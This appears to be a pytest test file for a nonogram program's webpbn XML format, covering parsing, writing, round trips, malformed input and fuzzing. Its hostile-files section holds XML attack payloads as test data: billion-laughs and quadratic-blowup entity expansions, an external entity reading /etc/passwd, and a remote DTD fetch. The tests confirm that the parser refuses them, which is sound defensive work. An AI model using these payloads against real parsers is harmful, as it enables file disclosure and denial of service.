"""Tests of Jan Wolter's webpbn XML format (paint.formats.webpbn): reading, writing, hostile and broken files.

The documents here are written in the tests (the first one is webpbn #1 as
webpbn.com exports it); the round trips also run over every puzzle in
``tests/corpus``, so nothing outside the repository is needed.
"""

from __future__ import annotations

import xml.etree.ElementTree as ElementTree
from pathlib import Path

import attrs
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from paint.errors import GoalMismatch, PaintError, PuzzleFormatError
from paint.formats import load, webpbn
from paint.puzzle import MAX_SIZE, Puzzle

from test_formats import puzzles

CORPUS = Path(__file__).parent / "corpus"
CORPUS_FILES = sorted(path for path in CORPUS.rglob("*") if path.suffix in (".non", ".nin"))

FUZZ = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])

DANCER_GOAL = (".XX..", ".XX.X", "..X.X", ".XXX.", "X.X..", "X.X..", "..XX.", ".X.X.", ".X.XX", "XX...")

EXAMPLE = """<?xml version="1.0"?>
<!DOCTYPE pbn SYSTEM "http://webpbn.com/pbn-0.3.dtd">
<puzzleset>
<source>webpbn.com</source>
<puzzle type="grid" defaultcolor="black">
<source>webpbn.com</source>
<id>#1</id>
<title>Demo Puzzle from Front Page</title>
<author>Jan Wolter</author>
<authorid>jan</authorid>
<copyright>&copy; Copyright 2004 by Jan Wolter</copyright>
<description>A stick figure man, dancing his stickly little heart out.</description>
<color name="white" char=".">fff</color>
<color name="black" char="X">000</color>
<clues type="columns">
<line><count>2</count><count>1</count></line>
<line><count>2</count><count>1</count><count>3</count></line>
<line><count>7</count></line>
<line><count>1</count><count>3</count></line>
<line><count>2</count><count>1</count></line>
</clues>
<clues type="rows">
<line><count>2</count></line>
<line><count>2</count><count>1</count></line>
<line><count>1</count><count>1</count></line>
<line><count>3</count></line>
<line><count>1</count><count>1</count></line>
<line><count>1</count><count>1</count></line>
<line><count>2</count></line>
<line><count>1</count><count>1</count></line>
<line><count>1</count><count>2</count></line>
<line><count>2</count></line>
</clues>
<solution type="goal">
<image>
|.XX..|
|.XX.X|
|..X.X|
|.XXX.|
|X.X..|
|X.X..|
|..XX.|
|.X.X.|
|.X.XX|
|XX...|
</image>
</solution>
<note>published,definitely unique,definitely line/color solvable</note>
</puzzle>
</puzzleset>
"""
"""webpbn #1 as webpbn.com exports it: a DOCTYPE naming its DTD, ``&copy;``, set- and puzzle-level sources."""

BASE = """<?xml version="1.0"?>
<puzzleset>
<puzzle>
<title>T</title>
<clues type="columns">
<line><count>2</count></line>
<line/>
</clues>
<clues type="rows">
<line><count>1</count></line>
<line><count>1</count></line>
</clues>
<solution type="goal"><image>
|X.|
|X.|
</image></solution>
</puzzle>
</puzzleset>
"""
"""A small valid document that the malformed cases edit; its line numbers are the ones the table expects."""

TWO_BY_TWO = Puzzle(rows=[[1], [1]], columns=[[2], []], title="T", goal=["X.", "X."])
"""The puzzle BASE holds."""


def edit(text: str, old: str, new: str) -> str:
    """``text`` with its one occurrence of ``old`` replaced by ``new``."""
    assert text.count(old) == 1, old
    return text.replace(old, new)


def puzzle_xml(body: str, attributes: str = "") -> str:
    """A puzzle set of one ``<puzzle>`` with the given attributes and content."""
    return f'<?xml version="1.0"?>\n<puzzleset>\n<puzzle{attributes}>\n{body}</puzzle>\n</puzzleset>\n'


CLUES = ('<clues type="columns">\n<line><count>1</count></line>\n<line/>\n</clues>\n'
         '<clues type="rows">\n<line><count>1</count></line>\n</clues>\n')
"""The clues of a 2 x 1 puzzle whose left square is full."""


def writable(puzzle: Puzzle) -> Puzzle:
    """``puzzle`` without the extra keys the webpbn writer refuses (the tags it interprets)."""
    return attrs.evolve(puzzle, extra=[(key, value) for key, value in puzzle.extra if key not in webpbn.RESERVED])


XML_TEXT = st.text(st.characters(blacklist_categories=("Cs",)).filter(
    lambda char: char in "\t\n\r" or not (char < " " or char in "\ufffe\uffff")), max_size=30)
"""Any text XML 1.0 can hold: line breaks, carriage returns, spaces at the ends, markup characters, any letters."""


# ------------------------------------------------------------------ the module


class TestModule:
    """The module has the interface every many-puzzle format has."""

    def test_constants(self):
        """NAME, EXTENSIONS, MANY and HOLDS describe the format."""
        assert webpbn.NAME == "webpbn"
        assert webpbn.EXTENSIONS == (".xml",)
        assert webpbn.MANY is True
        assert webpbn.HOLDS == frozenset({"title", "author", "copyright", "license", "catalogue", "goal", "extra"})

    def test_reserved_tags_are_not_extras(self):
        """Every tag read into a field or interpreted is reserved, so no extra key can collide with one."""
        assert set(webpbn.FIELDS) <= webpbn.RESERVED
        assert {"color", "clues", "solution"} <= webpbn.RESERVED


# ------------------------------------------------------------------ read_each


class TestReadEach:
    """read_each reads every puzzle of a file, a broken puzzle standing as its error."""

    def test_webpbn_export(self):
        """webpbn #1 as exported reads with its clues, goal, metadata and extras, &copy; included."""
        [puzzle] = webpbn.read_each(EXAMPLE, "1.xml")
        dancer = load(CORPUS / "nonogram-db" / "webpbn" / "1.non")
        assert (puzzle.rows, puzzle.columns, puzzle.goal) == (dancer.rows, dancer.columns, DANCER_GOAL)
        assert puzzle.title == "Demo Puzzle from Front Page"
        assert puzzle.author == "Jan Wolter"
        assert puzzle.copyright == "© Copyright 2004 by Jan Wolter"
        assert puzzle.catalogue == "#1"
        assert puzzle.license is None
        assert puzzle.extra == (
            ("source", "webpbn.com"), ("authorid", "jan"),
            ("description", "A stick figure man, dancing his stickly little heart out."),
            ("note", "published,definitely unique,definitely line/color solvable"))

    def test_puzzle_set(self):
        """A set of several puzzles gives them all, in order."""
        first = Puzzle(rows=[[1]], columns=[[1]], title="one")
        second = Puzzle(rows=[[2]], columns=[[1], [1]], title="two", goal=["XX"])
        third = Puzzle(rows=[[], [1]], columns=[[1]], title="three")
        assert webpbn.read_each(webpbn.write_all([first, second, third]), "set.xml") == [first, second, third]

    def test_broken_puzzle_keeps_its_place(self):
        """A puzzle that cannot be read is its PuzzleFormatError in its place; the others are still read."""
        good = webpbn.write_all([Puzzle(rows=[[1]], columns=[[1]], title="a"),
                                 Puzzle(rows=[[1]], columns=[[1]], title="c")])
        bad = ('<puzzle>\n<clues type="columns"><line><count>x</count></line></clues>\n'
               '<clues type="rows"><line><count>1</count></line></clues>\n</puzzle>\n')
        text = edit(good, "</puzzle>\n<puzzle", "</puzzle>\n" + bad + "<puzzle")
        each = webpbn.read_each(text, "set.xml")
        assert [getattr(item, "title", None) for item in each] == ["a", None, "c"]
        assert isinstance(each[1], PuzzleFormatError)
        assert each[1].message == "clue number 'x' is not a number"
        assert each[1].line == text.split("\n").index('<clues type="columns"><line><count>x</count></line></clues>') + 1

    def test_goal_mismatch_in_place(self):
        """A goal that breaks the clues is a GoalMismatch in the list, carrying the puzzle without it."""
        text = edit(BASE, "|X.|\n|X.|", "|X.|\n|.X|")
        [error] = webpbn.read_each(text, "g.xml")
        assert isinstance(error, GoalMismatch)
        assert error.line == 13
        assert error.puzzle == attrs.evolve(TWO_BY_TWO, goal=None)
        assert error.goal == ("X.", ".X")

    def test_bare_puzzle_root(self):
        """A document whose root is a single <puzzle> is read as a set of one."""
        text = BASE.replace("<puzzleset>\n", "").replace("</puzzleset>\n", "")
        assert webpbn.read_each(text, "p.xml") == [TWO_BY_TWO]

    def test_line_numbers_count_the_whole_file(self):
        """An error in the second puzzle names its line in the file, not in the puzzle."""
        text = webpbn.write_all([TWO_BY_TWO, TWO_BY_TWO])
        lines = text.split("\n")
        second = [number for number, line in enumerate(lines, 1) if line == "<line><count>2</count></line>"][1]
        lines[second - 1] = "<line><count>two</count></line>"
        each = webpbn.read_each("\n".join(lines), "two.xml")
        assert each[0] == TWO_BY_TWO
        assert (each[1].line, each[1].message) == (second, "clue number 'two' is not a number")

    def test_error_without_line_names_the_puzzle(self):
        """A problem of the puzzle as a whole (totals that differ) names the line of its <puzzle>."""
        text = edit(BASE, "<line><count>2</count></line>", "<line><count>1</count></line>")
        [error] = webpbn.read_each(text, "t.xml")
        assert (error.line, error.message) == (3, "the row clues total 2 full squares but the column clues total 1")

    def test_set_level_author_and_copyright(self):
        """<author> and <copyright> of the set stand for puzzles without their own (pbnsolve); a puzzle's own win."""
        text = webpbn.write_all([Puzzle(rows=[[1]], columns=[[1]]), Puzzle(rows=[[1]], columns=[[1]], author="B")])
        text = edit(text, "<puzzleset>\n", "<puzzleset>\n<author>A</author>\n<copyright>C</copyright>\n"
                    "<title>Series</title>\n<source>set</source>\n")
        first, second = webpbn.read_each(text, "s.xml")
        assert (first.author, first.copyright, first.title, first.extra) == ("A", "C", None, ())
        assert (second.author, second.copyright) == ("B", "C")

    def test_goal_without_clues(self):
        """A puzzle with a goal and no clues gets the clues of its goal (pbnsolve)."""
        text = puzzle_xml('<solution type="goal"><image>\n|.XX|\n|X.X|\n</image></solution>\n')
        [puzzle] = webpbn.read_each(text, "g.xml")
        assert puzzle == Puzzle(rows=[[2], [1, 1]], columns=[[1], [1], [2]], goal=[".XX", "X.X"])

    def test_other_solutions_ignored(self):
        """Solutions of type 'saved' or 'solution' are not the goal and are not read, whatever they hold."""
        text = edit(BASE, '<solution type="goal">', '<solution type="saved"><image>|??|\n|?|</image></solution>\n'
                    '<solution type="solution"><image>junk</image></solution>\n<solution type="Goal">')
        assert webpbn.read_each(text, "s.xml") == [TWO_BY_TWO]

    def test_untyped_solution_is_goal(self):
        """A <solution> without a type is the goal."""
        assert webpbn.read_each(edit(BASE, ' type="goal"', ""), "s.xml") == [TWO_BY_TWO]

    @pytest.mark.parametrize("attributes", ['', ' defaultcolor="black"', ' defaultcolor="white"',
                                            ' defaultcolor="black" backgroundcolor="white"', ' type="GRID"'])
    def test_colour_attributes(self, attributes):
        """defaultcolor names the counts' colour; a file putting the background there is read the same."""
        text = puzzle_xml('<color name="white" char=".">fff</color>\n<color name="black" char="X">000</color>\n'
                          + CLUES + '<solution><image>|X.|</image></solution>\n', attributes)
        assert webpbn.read(text, "c.xml") == Puzzle(rows=[[1]], columns=[[1], []], goal=["X."])

    def test_other_colour_names_and_chars(self):
        """A one-colour puzzle in red on yellow, with its own chars and explicit count colours, is black and white."""
        body = ('<color name="yellow" char="y">ff0</color>\n<color name="red" char="r">f00</color>\n'
                '<color name="blue" char="b">00f</color>\n'
                + CLUES.replace("<count>", '<count color="red">') + "<solution><image>|ry|</image></solution>\n")
        text = puzzle_xml(body, ' defaultcolor="red" backgroundcolor="yellow"')
        assert webpbn.read(text, "r.xml") == Puzzle(rows=[[1]], columns=[[1], []], goal=["X."])

    def test_default_chars(self):
        """Without <color> elements the goal uses '.' for the background and 'X' for the block colour."""
        text = puzzle_xml(CLUES + "<solution><image>  |X.|  </image></solution>\n")
        assert webpbn.read(text, "d.xml").goal == ("X.",)

    def test_extras(self):
        """Text-only elements are kept in order, repeats included; elements with attributes or children are not."""
        body = ('<note>one</note>\n<rating/>\n<note> two &amp; <![CDATA[<three>]]> </note>\n'
                '<fancy kind="x">no</fancy>\n<nested><a>no</a></nested>\n' + CLUES)
        puzzle = webpbn.read(puzzle_xml(body), "e.xml")
        assert puzzle.extra == (("note", "one"), ("rating", ""), ("note", " two & <three> "))

    def test_license_extension(self):
        """<license>, paint's extension, is read into Puzzle.license, not into extra."""
        puzzle = webpbn.read(puzzle_xml("<license>CC-BY-3.0</license>\n" + CLUES), "l.xml")
        assert (puzzle.license, puzzle.extra) == ("CC-BY-3.0", ())

    @pytest.mark.parametrize("prolog", ["", '<!DOCTYPE pbn SYSTEM "http://webpbn.com/pbn-0.3.dtd">\n',
                                        '<!DOCTYPE puzzleset [\n<!ELEMENT puzzleset ANY>\n]>\n'])
    def test_html_entities(self, prolog):
        """HTML named entities read as their characters, with webpbn's DOCTYPE, an internal subset, or none."""
        text = edit(puzzle_xml("<title>&copy; caf&eacute;&nbsp;&amp; &#169;</title>\n" + CLUES),
                    "<puzzleset>", prolog + "<puzzleset>")
        assert webpbn.read(text, "h.xml").title == "© café\xa0& ©"

    def test_crlf_bom_and_leading_blank_lines(self):
        """Windows line ends, a byte-order mark and blank lines before the XML declaration are accepted."""
        text = "\ufeff\r\n\r\n  " + BASE.replace("\n", "\r\n")
        assert webpbn.read_each(text, "w.xml") == [TWO_BY_TWO]
        broken = "\n\n" + edit(BASE, "<count>2</count>", "<count>-2</count>")
        assert webpbn.read_each(broken, "w.xml")[0].line == 8

    @pytest.mark.parametrize("text, message, line", [
        ("", "the file is empty", None),
        ("<a>\0</a>", "binary content", None),
        ("hello\n", "malformed XML: syntax error (column 1)", 1),
        ("<?xml version='1.0'?>\n<!-- only a comment -->\n", "malformed XML: no element found", 3),
        ("\n<html>\n</html>\n", "not a webpbn puzzle file: the root element is <html>", 2),
        ("<puzzleset>\n<source>x</source>\n</puzzleset>", "the puzzle set holds no <puzzle>", 1),
        ("<puzzleset>\n<puzzle>\n</puzzleset>", "malformed XML: mismatched tag (column 3)", 3),
        ("<x>\ud800</x>", "binary content", None),
    ])
    def test_file_problems_raise(self, text, message, line):
        """A problem with the file as a whole raises PuzzleFormatError instead of returning a list."""
        with pytest.raises(PuzzleFormatError) as raised:
            webpbn.read_each(text, "f.xml")
        assert message in raised.value.message
        assert raised.value.line == line
        assert raised.value.path == "f.xml"


# ------------------------------------------------------------------ read


class TestRead:
    """read returns the one puzzle of a file holding exactly one."""

    def test_one_puzzle(self):
        """The puzzle of a set of one is returned."""
        assert webpbn.read(BASE, "one.xml") == TWO_BY_TWO

    def test_several_puzzles(self):
        """A file holding three puzzles raises PuzzleFormatError saying how many it holds."""
        text = webpbn.write_all([TWO_BY_TWO] * 3)
        with pytest.raises(PuzzleFormatError, match="the file holds 3 puzzles"):
            webpbn.read(text, "three.xml")

    def test_the_puzzles_own_error(self):
        """A file of one broken puzzle raises that puzzle's error."""
        with pytest.raises(GoalMismatch):
            webpbn.read(edit(BASE, "|X.|\n|X.|", "|.X|\n|.X|"), "bad.xml")


# ------------------------------------------------------------------ write and write_all


class TestWrite:
    """write gives a <puzzleset> document of one puzzle that reads back equal."""

    def test_layout(self):
        """An XML declaration, the fields, extras, two colours, the columns before the rows, then the goal."""
        text = webpbn.write(attrs.evolve(TWO_BY_TWO, license="CC0-1.0", catalogue="#7",
                                         extra=[("note", "n")]))
        assert text.split("\n") == [
            '<?xml version="1.0" encoding="UTF-8"?>',
            "<puzzleset>",
            '<puzzle type="grid" defaultcolor="black" backgroundcolor="white">',
            "<id>#7</id>",
            "<title>T</title>",
            "<license>CC0-1.0</license>",
            "<note>n</note>",
            '<color name="white" char=".">fff</color>',
            '<color name="black" char="X">000</color>',
            '<clues type="columns">',
            "<line><count>2</count></line>",
            "<line />",
            "</clues>",
            '<clues type="rows">',
            "<line><count>1</count></line>",
            "<line><count>1</count></line>",
            "</clues>",
            '<solution type="goal">',
            "<image>",
            "|X.|",
            "|X.|",
            "</image>",
            "</solution>",
            "</puzzle>",
            "</puzzleset>",
            "",
        ]

    def test_plain_xml(self):
        """What is written is well-formed XML any parser reads, with the clues where webpbn puts them."""
        root = ElementTree.fromstring(webpbn.write(TWO_BY_TWO).encode("utf-8"))
        clues = root.find("puzzle").findall("clues")
        assert [element.get("type") for element in clues] == ["columns", "rows"]
        assert [len(element) for element in clues] == [2, 2]

    def test_export_round_trip(self):
        """webpbn #1 as exported, written again and read back, is the same puzzle."""
        puzzle = webpbn.read(EXAMPLE, "1.xml")
        assert webpbn.read(webpbn.write(puzzle), "back.xml") == puzzle

    @settings(max_examples=100, deadline=None)
    @given(value=XML_TEXT)
    def test_any_metadata_value(self, value):
        """Any value XML can hold comes back exactly: quotes, <, &, line breaks, carriage returns, spaces, unicode."""
        puzzle = Puzzle(rows=[[1]], columns=[[1]], title=value, author=value, copyright=value, license=value,
                        catalogue=value, extra=[("note", value), ("description", value)])
        assert webpbn.read(webpbn.write(puzzle), "v.xml") == puzzle

    def test_awkward_values(self):
        """Values that look like markup, entities or CDATA ends are text, and come back as written."""
        values = ['a "b" \'c\'', "<title>x</title>", "&amp; &copy; &#13;", "]]>", " \r\n\t ", "", "💡 ©"]
        for value in values:
            puzzle = Puzzle(rows=[[1]], columns=[[1]], title=value, extra=[("note", value)])
            assert webpbn.read(webpbn.write(puzzle), "a.xml") == puzzle

    @pytest.mark.parametrize("char", ["\x00", "\x01", "\x08", "\x0b", "\x1f", "\ufffe", "\ud800"])
    def test_unwritable_characters(self, char):
        """A value holding a character XML 1.0 cannot hold raises PaintError naming the key."""
        with pytest.raises(PaintError, match="cannot write title .* XML 1.0 cannot hold"):
            webpbn.write(Puzzle(rows=[[1]], columns=[[1]], title=f"a{char}b"))
        with pytest.raises(PaintError, match="cannot write rating "):
            webpbn.write(Puzzle(rows=[[1]], columns=[[1]], extra=[("rating", char)]))

    @pytest.mark.parametrize("key", ["id", "title", "license", "color", "clues", "solution", "a b", "1st", ""])
    def test_unwritable_extra_keys(self, key):
        """An extra key that is an interpreted tag or not a word raises PaintError."""
        with pytest.raises(PaintError, match="extra key"):
            webpbn.write(Puzzle(rows=[[1]], columns=[[1]], extra=[(key, "x")]))


class TestWriteAll:
    """write_all gives one <puzzleset> of many puzzles that reads back equal."""

    def test_no_puzzles(self):
        """An empty set cannot be written (it could not be read back)."""
        with pytest.raises(PaintError, match="no puzzles"):
            webpbn.write_all([])

    def test_any_iterable(self):
        """A generator of puzzles is written like a list."""
        puzzles_ = [TWO_BY_TWO, Puzzle(rows=[[1]], columns=[[1]])]
        assert webpbn.write_all(iter(puzzles_)) == webpbn.write_all(puzzles_)

    # 60 sets: each puzzle's own metadata in a set is what this adds (one puzzle's metadata, every format, is
    # test_formats' TestRoundTrip, 150 puzzles; many real puzzles in one set, test_corpus_as_one_set below)
    @settings(max_examples=60, deadline=None)
    @given(st.lists(puzzles().map(writable), min_size=1, max_size=4))
    def test_random_puzzles(self, puzzles_):
        """Random puzzles with random metadata, extras and goals come back equal, in order."""
        assert webpbn.read_each(webpbn.write_all(puzzles_), "r.xml") == puzzles_

    @pytest.mark.parametrize("path", CORPUS_FILES, ids=lambda path: f"{path.parent.name}/{path.name}")
    def test_corpus_file(self, path):
        """Every corpus puzzle written with write() reads back equal."""
        puzzle = load(path)
        assert webpbn.read(webpbn.write(puzzle), "c.xml") == puzzle

    def test_corpus_as_one_set(self):
        """The whole corpus written as one set reads back as the same puzzles, in order."""
        everything = [load(path) for path in CORPUS_FILES]
        assert len(everything) > 200
        assert webpbn.read_each(webpbn.write_all(everything), "all.xml") == everything


# ------------------------------------------------------------------ hostile files


LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE puzzleset [\n<!ENTITY lol "lol">\n'
          + "".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1 or "") + ";") * 10}">\n' for n in range(1, 10))
          + "]>\n<puzzleset><puzzle><title>&lol9;</title></puzzle></puzzleset>\n")

HOSTILE = [
    # (id, text, message fragment, line)
    ("billion-laughs", LAUGHS, "declares entities (a possible entity-expansion attack)", 3),
    ("quadratic-blowup", '<!DOCTYPE p [<!ENTITY a "' + "a" * 100000 + '">]>\n<p>' + "&a;" * 1000 + "</p>",
     "declares entities", 1),
    ("external-entity", '<?xml version="1.0"?>\n<!DOCTYPE puzzleset [\n<!ENTITY x SYSTEM "file:///etc/passwd">\n]>\n'
     "<puzzleset><puzzle><title>&x;</title></puzzle></puzzleset>\n", "declares an external entity", 3),
    ("external-parameter-entity", '<!DOCTYPE puzzleset [\n<!ENTITY % x SYSTEM "http://example.invalid/evil.dtd">\n'
     "%x;\n]>\n<puzzleset/>\n", "declares an external entity", 2),
    ("public-entity", '<!DOCTYPE p [<!ENTITY x PUBLIC "-//X//Y" "http://example.invalid/x">]><p>&x;</p>',
     "declares an external entity", 1),
    ("unparsed-entity", '<!DOCTYPE p [\n<!NOTATION n SYSTEM "x">\n<!ENTITY u SYSTEM "http://example.invalid/u" '
     'NDATA n>\n]>\n<p/>', "declares an external entity", 3),
    ("internal-entity", '<!DOCTYPE p [<!ENTITY t "harmless">]>\n<puzzle><title>&t;</title></puzzle>',
     "declares entities", 1),
]


class TestHostile:
    """Files built to attack an XML parser are refused with PuzzleFormatError and nothing else."""

    @pytest.mark.parametrize("text, fragment, line", [case[1:] for case in HOSTILE], ids=[case[0] for case in HOSTILE])
    def test_refused(self, text, fragment, line):
        """Any entity declaration is refused, naming the file and the line of the declaration."""
        with pytest.raises(PuzzleFormatError) as raised:
            webpbn.read_each(text, "evil.xml")
        error = raised.value
        assert error.message.startswith("refused: ")
        assert fragment in error.message
        assert (error.path, error.line) == ("evil.xml", line)

    def test_external_dtd_never_read(self, tmp_path):
        """A DOCTYPE naming a DTD file is not fetched: an entity only that file declares stays undefined."""
        dtd = tmp_path / "evil.dtd"
        dtd.write_text('<!ENTITY secret "leaked">\n', encoding="utf-8")
        text = edit(BASE, "<puzzleset>", f'<!DOCTYPE puzzleset SYSTEM "{dtd.as_uri()}">\n<puzzleset>')
        assert webpbn.read(text, "ok.xml") == TWO_BY_TWO
        with pytest.raises(PuzzleFormatError, match="undefined entity &secret;") as raised:
            webpbn.read(edit(text, "<title>T", "<title>&secret;"), "evil.xml")
        assert raised.value.line == 5

    def test_deep_nesting(self):
        """Elements nested a hundred thousand deep are read without a RecursionError."""
        depth = 100000
        text = "<puzzle>" + "<note>" * depth + "</note>" * depth + CLUES + "</puzzle>"
        assert webpbn.read(text, "deep.xml") == Puzzle(rows=[[1]], columns=[[1], []])


# ------------------------------------------------------------------ colour puzzles


class TestColour:
    """Colour puzzles are refused with the project's one message; what is only black and white is read."""

    @pytest.mark.parametrize("text, line", [
        (edit(BASE, "<line><count>1</count></line>\n<line><count>1</count></line>",
              '<line><count>1</count></line>\n<line><count color="red">1</count></line>'), 11),
        (edit(BASE, "<line><count>2</count></line>", '<line><count color="red">2</count></line>'), 10),
        (edit(edit(BASE, "<puzzle>", '<puzzle>\n<color name="red" char="r">f00</color>'), "|X.|\n|X.|",
              "|X.|\n|r.|"), 16),
    ], ids=["rows", "columns-then-rows", "goal"])
    def test_refused(self, text, line):
        """Counts in two colours, or a goal using a third colour, are refused naming the line."""
        [error] = webpbn.read_each(text, "colour.xml")
        assert isinstance(error, PuzzleFormatError)
        assert error.message.startswith("colour puzzles are not supported")
        assert error.line == line

    def test_count_in_background(self):
        """A count in the background colour is refused."""
        text = edit(BASE, "<count>2</count>", '<count color="white">2</count>')
        with pytest.raises(PuzzleFormatError, match="a <count> in the background colour 'white'"):
            webpbn.read(text, "w.xml")

    def test_unused_colours(self):
        """Colours defined but used by no count and no goal square do not make a colour puzzle."""
        text = edit(BASE, "<puzzle>", '<puzzle>\n<color name="red" char="r">f00</color>\n'
                    '<color name="green" char="g">0f0</color>')
        assert webpbn.read(text, "u.xml") == TWO_BY_TWO


# ------------------------------------------------------------------ malformed puzzles


MALFORMED = [
    # (id, text, error fragment, line)
    ("truncated", BASE[:BASE.index("</puzzle>")], "the file ends inside an element (is it truncated?)", 17),
    ("mismatched-tag", edit(BASE, "</title>", "</titel>"), "malformed XML: mismatched tag (column 11)", 4),
    ("undefined-entity", edit(BASE, "<title>T", "<title>&nosuch;"), "undefined entity &nosuch; (column 8)", 4),
    ("control-character", edit(BASE, "<title>T", "<title>\x01"), "not well-formed (invalid token)", 4),
    ("type-triddler", edit(BASE, "<puzzle>", '<puzzle type="triddler">'),
     "puzzles of type 'triddler' are not supported", 3),
    ("title-twice", edit(BASE, "<title>T</title>", "<title>T</title>\n<title>U</title>"), "<title> is given twice", 5),
    ("id-twice", edit(BASE, "<title>", "<id>1</id><id>2</id>\n<title>"), "<id> is given twice", 4),
    ("colour-without-name", edit(BASE, "<title>", '<color char="r">f00</color>\n<title>'),
     "a <color> without a name", 4),
    ("colour-twice", edit(BASE, "<title>", '<color name="a"/>\n<color name="a"/>\n<title>'),
     "the colour 'a' is defined twice", 5),
    ("same-chars", edit(BASE, "<title>", '<color name="white" char="X"/>\n<title>'),
     "the background and block colours have the same char 'X'", 3),
    ("count-word", edit(BASE, "<count>2</count>", "<count>two</count>"), "clue number 'two' is not a number", 6),
    ("count-negative", edit(BASE, "<count>2</count>", "<count>-2</count>"), "clue number -2 is negative", 6),
    ("count-empty", edit(BASE, "<count>2</count>", "<count> </count>"), "clue number '' is not a number", 6),
    ("count-huge", edit(BASE, "<count>2</count>", f"<count>{'9' * 30}</count>"), "far too large", 6),
    ("count-on-its-own-line", edit(BASE, "<line><count>2</count></line>", "<line>\n<count>x</count></line>"),
     "clue number 'x' is not a number", 7),
    ("count-zero-among", edit(BASE, "<count>2</count>", "<count>2</count><count>0</count>"),
     "a 0 among other numbers", 6),
    ("count-too-long", edit(BASE, "<count>2</count>", "<count>3</count>"),
     "column 1: clue 3 needs 3 squares but the line has 2", 6),
    ("row-too-long", edit(BASE, "<line><count>1</count></line>\n<line><count>1</count></line>",
                          "<line><count>1</count><count>1</count></line>\n<line><count>1</count></line>"),
     "row 1: clue 1 1 needs 3 squares but the line has 2", 10),
    ("totals", edit(BASE, "<count>2</count>", "<count>1</count>"), "the row clues total 2 full squares", 3),
    ("no-rows", BASE[:BASE.index('<clues type="rows">')] + BASE[BASE.index("<solution"):],
     'the puzzle has no row clues (no <clues type="rows">)', 3),
    ("no-columns", BASE[:BASE.index('<clues type="columns">')] + BASE[BASE.index('<clues type="rows">'):],
     'the puzzle has no column clues (no <clues type="columns">)', 3),
    ("rows-twice", edit(BASE, "<solution", '<clues type="rows"><line/><line/></clues>\n<solution'),
     'a second <clues type="rows">', 13),
    ("clues-type", edit(BASE, '<clues type="rows">', '<clues type="diagonal">'),
     "<clues> of type 'diagonal'; expected 'rows' or 'columns'", 9),
    ("clues-no-type", edit(BASE, '<clues type="rows">', "<clues>"), "<clues> of type ''", 9),
    ("unexpected-in-clues", edit(BASE, "<line/>", "<lines/>"), '<lines> in <clues type="columns">', 7),
    ("unexpected-in-line", edit(BASE, "<count>2</count>", "<cnt>2</cnt>"), "unexpected <cnt> in a <line>", 6),
    ("no-lines", edit(BASE, "<line><count>1</count></line>\n<line><count>1</count></line>\n", ""),
     '<clues type="rows"> has 0 rows; paint reads 1 to 1000 rows', 9),
    ("too-many-lines", edit(BASE, "<line/>\n", "<line/>\n" * MAX_SIZE),
     '<clues type="columns"> has 1001 columns; paint reads 1 to 1000 columns', 5),
    ("neither", puzzle_xml("<title>x</title>\n"), "the puzzle has neither clues nor a goal", 3),
    ("goal-char", edit(BASE, "|X.|\n|X.|", "|X.|\n|Xo|"), "the goal has the character 'o', which names no colour",
     15),
    ("goal-unknown", edit(BASE, "|X.|\n|X.|", "|X?|\n|X.|"), "the goal has an undecided square ('?')", 14),
    ("goal-several", edit(BASE, "|X.|\n|X.|", "|X.|\n|X[.X]|"), "undecided square ('[')", 15),
    ("goal-unframed", edit(BASE, "|X.|\n|X.|", "|X.|\nX.|"), "the goal image has 'X' outside the '|'", 15),
    ("goal-unclosed", edit(BASE, "|X.|\n|X.|", "|X.|\n|X.\n"), "does not end with '|'", 15),
    ("goal-rows", edit(BASE, "|X.|\n|X.|", "|X.|"), "the goal has the wrong number of rows: 1 for a height of 2", 13),
    ("goal-width", edit(BASE, "|X.|\n|X.|", "|X.|\n|X|"),
     "goal row 2 has the wrong number of squares: 1 for a width of 2", 15),
    ("goal-mismatch", edit(BASE, "|X.|\n|X.|", "|.X|\n|.X|"), "the goal does not match the clue of column 1", 13),
    ("goal-empty", edit(BASE, "|X.|\n|X.|\n", ""), "the goal image is empty", 13),
    ("goal-no-image", edit(BASE, "<image>\n|X.|\n|X.|\n</image>", ""), "holds 0 <image> elements", 13),
    ("goal-two-images", edit(BASE, "</image>", "</image><image/>"), "holds 2 <image> elements", 13),
    ("goal-image-elements", edit(BASE, "|X.|\n|X.|", "|X.|<b/>\n|X.|"), "<image> holds elements", 13),
    ("goal-twice", edit(BASE, "</puzzle>", '<solution type="goal"><image>|X.|</image></solution>\n</puzzle>'),
     'a second goal (<solution type="goal">)', 17),
    ("goal-only-ragged", puzzle_xml("<solution><image>\n|XX|\n|X|\n</image></solution>\n"),
     "goal row 2 has the wrong number of squares: 1 for a width of 2", 6),
    ("goal-only-huge", puzzle_xml("<solution><image>|" + "X" * (MAX_SIZE + 1) + "|</image></solution>\n"),
     "the goal has 1001 columns", 4),
]


class TestMalformed:
    """Every problem inside a puzzle is a PuzzleFormatError naming the file and, where there is one, the line."""

    @pytest.mark.parametrize("text, fragment, line", [case[1:] for case in MALFORMED],
                             ids=[case[0] for case in MALFORMED])
    def test_table(self, text, fragment, line):
        """The error holds the expected fragment and line, and its text starts 'path:line: '."""
        with pytest.raises(PuzzleFormatError) as raised:
            webpbn.read(text, "bad.xml")
        error = raised.value
        assert fragment in error.message
        assert error.line == line
        assert error.path == "bad.xml"
        assert str(error).startswith(f"bad.xml:{line}: " if line else "bad.xml: ")
        assert "\n" not in str(error)

    def test_valid_base(self):
        """The document the table edits is itself a valid puzzle."""
        assert webpbn.read(BASE, "ok.xml") == TWO_BY_TWO


# ------------------------------------------------------------------ fuzzing


TOKENS = ["<puzzleset>", "</puzzleset>", "<puzzle>", "</puzzle>", '<puzzle type="grid" defaultcolor="white">',
          '<clues type="rows">', '<clues type="columns">', "</clues>", "<line>", "</line>", "<line/>",
          "<count>", "</count>", "1", "2", "0", "-1", "x", '<count color="red">', "<solution>",
          '<solution type="goal">', "</solution>", "<image>", "</image>", "|X.|", "|..|", "|X|", "?", "\n",
          '<color name="white" char="X">', "</color>", "<title>", "</title>", "&copy;", "&amp;", "&nope;",
          '<?xml version="1.0"?>', "<!DOCTYPE pbn>", "<![CDATA[|X|]]>", "<!-- c -->", "<note/>", "<id>#1</id>"]


@st.composite
def mutated(draw):
    """A valid document's UTF-8 bytes with a few random edits, decoded as a reader might get them."""
    data = bytearray(draw(st.sampled_from([EXAMPLE, BASE, webpbn.write_all([TWO_BY_TWO] * 2)])).encode("utf-8"))
